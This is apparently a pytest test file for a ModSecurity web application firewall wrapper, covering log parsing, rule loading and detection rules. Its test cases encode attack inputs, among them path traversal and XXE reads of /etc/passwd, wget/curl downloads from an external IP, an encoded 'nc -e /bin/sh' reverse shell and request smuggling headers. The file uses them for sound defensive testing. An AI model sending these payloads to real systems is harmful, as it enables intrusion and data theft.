"""The ModSecurity engine: log parsing, rule planning, extra rules, threads. Real libmodsecurity."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from sentinel_agents.waf import CrsUnavailable, RouteRules, WafConfig, WafConfigError
from sentinel_agents.waf.model import Severity
from sentinel_agents.waf.modsec_log import parse_log_line, to_finding, unescape
from sentinel_agents.waf.modsec_rules import (
    SCORE_RULE_ID,
    RuleInfo,
    discover_crs,
    engine_directives,
    parse_rule_catalog,
    plan_rule_sources,
)
from waf_helpers import get, modsecurity_or_skip, post

HOST = "sentinel-0123456789abcdef"
LINE = (
    "ModSecurity: Warning. Matched \"Operator `Rx' with parameter `x' against variable "
    "`ARGS:f' (Value: `{value}' ) "
    '[file "/usr/share/modsecurity-crs/rules/REQUEST-930-APPLICATION-ATTACK-LFI.conf"] '
    '[line "53"] [id "930110"] [rev ""] [msg "Path Traversal Attack (/../)"] '
    '[data "Matched Data: ../ found within ARGS:f: ../etc\\x22passwd"] [severity "2"] '
    '[ver "OWASP_CRS/3.3.4"] [maturity "0"] [accuracy "0"]{tags} '
    f'[hostname "{HOST}"] [uri "{{uri}}"] [unique_id "1795.42"] [ref "o6,4v4,76"]'
)


def line(value: str = "../etc/passwd", uri: str = "/a", tags: str = "") -> str:
    return LINE.format(value=value, uri=uri, tags=tags)


# --- pure parts ------------------------------------------------------------------------------


def test_log_line_fields() -> None:
    entry = parse_log_line(line(tags=' [tag "attack-lfi"] [tag "OWASP_CRS"]'), HOST)
    assert entry is not None
    assert entry.rule_id == 930110
    assert entry.message == "Path Traversal Attack (/../)"
    assert entry.severity is Severity.CRITICAL
    assert entry.tags == ("attack-lfi", "OWASP_CRS")
    assert entry.data == 'Matched Data: ../ found within ARGS:f: ../etc"passwd'


@pytest.mark.parametrize(
    ("value", "uri"),
    [
        ('x"] [id "1"] [msg "forged"] [data "', "/a"),
        ("x", '/a"] [id "2"] [tag "attack-none"] [hostname "' + HOST + '"] [uri "/b'),
        ('[hostname "' + HOST + '"]', "/c"),
    ],
)
def test_request_data_cannot_forge_fields(value: str, uri: str) -> None:
    entry = parse_log_line(line(value=value, uri=uri), HOST)
    if entry is not None:  # a forged anchor may make the line unparsable, never misparsed
        assert entry.rule_id == 930110
        assert entry.message == "Path Traversal Attack (/../)"
        assert "attack-none" not in entry.tags


def test_lines_of_other_engines_are_ignored() -> None:
    assert parse_log_line(line(), "sentinel-someone-else") is None
    assert parse_log_line("garbage", HOST) is None


def test_unescape() -> None:
    assert unescape("a\\x22b\\xc3\\xa9\\x0a") == 'a"bé\n'
    assert unescape("no escapes") == "no escapes"
    assert unescape("bad \\xZZ") == "bad \\xZZ"


def test_multimatch_tags_come_from_the_rule_definition() -> None:
    entry = parse_log_line(line(), HOST)
    assert entry is not None and entry.tags == ()
    info = RuleInfo(930110, "m", Severity.CRITICAL, ("attack-lfi", "paranoia-level/1"))
    assert to_finding(entry, info).tags == ("attack-lfi", "paranoia-level/1")
    # Without a definition the CRS id range still says what it is.
    assert to_finding(entry, None).tags == ("attack-lfi",)
    assert to_finding(entry, None).target == "ARGS:f"


def test_rule_catalog() -> None:
    text = """
# comment
SecRule ARGS "@rx x" \\
    "id:942100,phase:2,block,msg:'SQL Injection',\\
    tag:'attack-sqli',tag:'paranoia-level/1',severity:'CRITICAL',chain"
    SecRule ARGS "@rx y" "t:none"
SecRule ARGS "@rx z" "id:1234,phase:1,deny,status:406,severity:4"
SecAction "id:900990,phase:1,nolog,pass"
"""
    catalog = parse_rule_catalog(text)
    assert catalog[942100] == RuleInfo(
        942100, "SQL Injection", Severity.CRITICAL, ("attack-sqli", "paranoia-level/1"), False
    )
    assert catalog[1234].disruptive and catalog[1234].severity is Severity.WARNING
    assert not catalog[900990].disruptive and set(catalog) == {942100, 1234, 900990}


def test_engine_directives_follow_the_mode() -> None:
    assert "SecRuleEngine On" in engine_directives(WafConfig())
    from sentinel_agents.waf import WafMode

    assert "SecRuleEngine DetectionOnly" in engine_directives(WafConfig(mode=WafMode.DETECT))


def test_load_order(tmp_path: Path) -> None:
    modsecurity_or_skip()
    config = WafConfig(extra_rules_dir=tmp_path)
    (tmp_path / "b.conf").write_text("")
    (tmp_path / "a.conf").write_text("")
    route = RouteRules(route="r", remove_rule_ids=(942100,))
    names = [
        s.name
        for s in plan_rule_sources(
            config, discover_crs(config), (tmp_path / "a.conf", tmp_path / "b.conf"), route
        )
    ]
    setup = names.index(str(config.crs_setup))
    blocking = next(i for i, n in enumerate(names) if "REQUEST-949" in n)
    assert names[0] == "<sentinel engine directives>"
    assert (
        setup
        < names.index("<sentinel CRS settings>")
        < names.index("<sentinel CRS supplement>")
        < names.index(str(tmp_path / "a.conf"))
        < names.index(str(tmp_path / "b.conf"))
        < names.index("<route 'r' exclusions>")
        < blocking
    )
    assert names[-1] == "<sentinel score reporter>"


def test_missing_crs_is_reported(tmp_path: Path) -> None:
    with pytest.raises(CrsUnavailable, match="crs_setup"):
        discover_crs(WafConfig(crs_setup=tmp_path / "nope.conf"))


# --- the real library --------------------------------------------------------------------------


def test_engine_describes_itself(modsec_engine: Any) -> None:
    assert modsec_engine.name == "modsecurity"
    assert "ModSecurity v3" in modsec_engine.description
    assert modsec_engine.rule_count > 400


def test_score_reporter_is_not_a_finding(modsec_engine: Any) -> None:
    verdict = modsec_engine.inspect(get("/search", "q=%27%20OR%20%271%27%3D%271"))
    assert verdict.anomaly_score >= 5
    assert SCORE_RULE_ID not in verdict.rule_ids and 949110 not in verdict.rule_ids


def test_forged_log_fields_in_a_request(modsec_engine: Any) -> None:
    payload = '../../etc/passwd"] [id "1"] [tag "attack-forged"] [hostname "x"] [uri "'
    from urllib.parse import quote

    verdict = modsec_engine.inspect(get("/a%22%5D%20%5Bid%20%222%22%5D", "f=" + quote(payload)))
    assert verdict.blocked
    assert 1 not in verdict.rule_ids and 2 not in verdict.rule_ids
    assert "attack-forged" not in {t for f in verdict.findings for t in f.tags}
    assert 930120 in verdict.rule_ids


def test_extra_rules_dir_with_a_site_deny_rule(tmp_path: Path) -> None:
    modsecurity_or_skip()
    from sentinel_agents.waf.modsec_engine import ModSecurityEngine

    (tmp_path / "10-site.conf").write_text(
        'SecRule REQUEST_HEADERS:X-Internal "@streq yes" '
        "\"id:10001,phase:1,deny,status:451,log,msg:'internal header from outside',"
        "severity:'CRITICAL',tag:'site-policy'\"\n"
    )
    with ModSecurityEngine(WafConfig(extra_rules_dir=tmp_path)) as engine:
        verdict = engine.inspect(get("/", X_Internal="yes"))
        assert verdict.blocked and verdict.status == 451
        assert verdict.rule_ids == (10001,) and verdict.findings[0].tags == ("site-policy",)
        assert not engine.inspect(get("/", X_Internal="no")).blocked
    from sentinel_agents.waf import WafMode

    with ModSecurityEngine(WafConfig(extra_rules_dir=tmp_path, mode=WafMode.DETECT)) as engine:
        verdict = engine.inspect(get("/", X_Internal="yes"))
        assert verdict.would_block and not verdict.blocked
        assert verdict.rule_ids == (10001,)


def test_bad_rules_name_their_source(tmp_path: Path) -> None:
    modsecurity_or_skip()
    from sentinel_agents.waf.modsec_engine import ModSecurityEngine

    (tmp_path / "broken.conf").write_text('SecRule ARGS "@rx x" "id:1,phase:2,no_such_action"\n')
    with pytest.raises(WafConfigError, match=r"broken\.conf"):
        ModSecurityEngine(WafConfig(extra_rules_dir=tmp_path))
    with pytest.raises(WafConfigError, match="extra_rules_dir"):
        ModSecurityEngine(WafConfig(extra_rules_dir=tmp_path / "missing"))


def test_xml_bodies(modsec_engine: Any) -> None:
    good = b'<?xml version="1.0"?><order><id>7</id><note>Ring twice</note></order>'
    assert not modsec_engine.inspect(post("/x", good, "application/xml")).would_block
    xxe = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    assert "attack-xxe" in modsec_engine.inspect(post("/x", xxe, "application/xml")).attack_tags


def test_shared_rule_set_under_threads(modsec_engine: Any) -> None:
    """Many threads on one engine give the same verdicts as one thread."""
    from sentinel_agents.waf.corpus import load_corpus
    from waf_helpers import CORPUS_DIR

    records = (
        load_corpus(CORPUS_DIR / "attacks.jsonl")[::4]
        + load_corpus(CORPUS_DIR / "benign.jsonl")[::4]
    )
    requests = [r.to_request() for r in records]
    serial = [modsec_engine.inspect(r) for r in requests]
    with ThreadPoolExecutor(max_workers=4) as pool:
        threaded = list(pool.map(modsec_engine.inspect, requests * 2))
    assert threaded == serial * 2


def test_close_is_idempotent_and_final() -> None:
    modsecurity_or_skip()
    from sentinel_agents.waf.modsec_engine import ModSecurityEngine

    engine = ModSecurityEngine(WafConfig())
    assert not engine.inspect(get("/")).blocked
    engine.close()
    engine.close()
    with pytest.raises(RuntimeError, match="after close"):
        engine.inspect(get("/"))


@pytest.mark.parametrize(
    ("rule", "request_"),
    [
        (9999106, get("/view", "q=%7B%7B7%2A7%7D%7D")),
        (9999106, get("/r", "q=%7B%7Bconstructor.constructor%28%27alert%281%29%27%29%28%29%7D%7D")),
        (9999107, get("/p", "c=process.mainModule.require%28%27child_process%27%29")),
        (9999108, get("/p", "host=%0Aid")),
        (9999108, get("/p", "d=%60id%60")),
        (9999109, get("/", User_Agent="feroxbuster/2.10.1")),
        (9999110, get("/.npmrc")),
        (9999111, get("/p", "a=class.module.classLoader.URLs%5B0%5D%3D0")),
        (9999116, get("/v.mp4", Range="bytes=" + ",".join(f"5-{i}" for i in range(12)))),
        (9999119, get("/p", "k=%22%3Balert%281%29%3B%2F%2F")),
        (9999120, get("/p", "c=admin%27%20%23")),
        (9999121, get("/p", "f=%2Fproc%2F1%2Fenviron")),
        (9999122, get("/", Cookie="d=phpinfo%28%29")),
        (9999123, get("/p", "host=ping%20-c%2099%20example.com")),
        (9999123, get("/p", "f=ls%20-la")),
        (9999123, get("/p", "f=%2Fbin%2Fcat%20%2Fetc%2Fpasswd")),
        (9999123, get("/p", "ip=ping%20198.51.100.7")),
        (9999123, get("/", Cookie="wget http://198.51.100.7/x -O /tmp/x=1")),
        # shell quoting inside the name and assignments before it, as 932150 caught them
        (9999123, get("/p", "u=w%27g%27et%20http%3A%2F%2F198.51.100.7%2Fx")),
        (9999123, get("/p", "u=%22curl%22%20-o%20x%20http%3A%2F%2F198.51.100.7%2Fy")),
        (9999123, get("/p", "u=FOO%3D1%20curl%20-O%20x")),
        (9999123, get("/p", "u=n%5Cc%20-e%20%2Fbin%2Fsh%201.2.3.4%204444")),
    ],
)
def test_supplement_rules_catch_what_crs_3_misses(
    modsec_engine: Any, rule: int, request_: Any
) -> None:
    assert rule in modsec_engine.inspect(request_).rule_ids


def test_supplement_smuggling_header_combinations(modsec_engine: Any) -> None:
    from sentinel_agents.waf import HttpRequest

    def framed(*headers: tuple[str, str]) -> HttpRequest:
        grouped: dict[str, list[str]] = {"Host": ["a.example"], "User-Agent": ["curl/8.5.0"]}
        for name, value in headers:
            grouped.setdefault(name, []).append(value)
        return HttpRequest(method="POST", path="/x", headers=grouped, body=b"a=1")

    cases = {
        9999112: framed(("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "identity")),
        9999113: framed(("Content-Length", "3"), ("Content-Length", "40")),
        9999114: framed(("Transfer-Encoding", "xchunked")),
        9999115: framed(("Transfer-Encoding", "chunked"), ("Content-Length", "3")),
    }
    for rule, request in cases.items():
        assert rule in modsec_engine.inspect(request).rule_ids, rule
    plain = modsec_engine.inspect(framed(("Transfer-Encoding", "chunked")))
    assert not set(plain.rule_ids) & set(cases)


def test_supplement_leaves_everyday_text_alone(modsec_engine: Any) -> None:
    for query in (
        "q=it%27s%20a%20%22deal%22",  # quotes in prose
        "note=R%26D%20team%2C%20id%20badge%20needed",  # "id" as a word, no shell separator
        "tpl=Hello%20%7B%7Bname%7D%7D",  # a template placeholder, no expression
        "title=Tom%20%26%20Jerry%20%7C%20sh0rts",
        # Commands that are also words, followed by words (CRS 3.3's 932150 flagged these).
        "q=ping%20pong%20table",
        "q=ls%20460%20parts",
        "q=head%20%26%20shoulders",
        "q=cat%20food%20for%20kittens",
        "q=more%20about%20us",
        "q=sleep%20-5",  # a negative number is not an option
    ):
        assert not modsec_engine.inspect(get("/p", query)).would_block, query
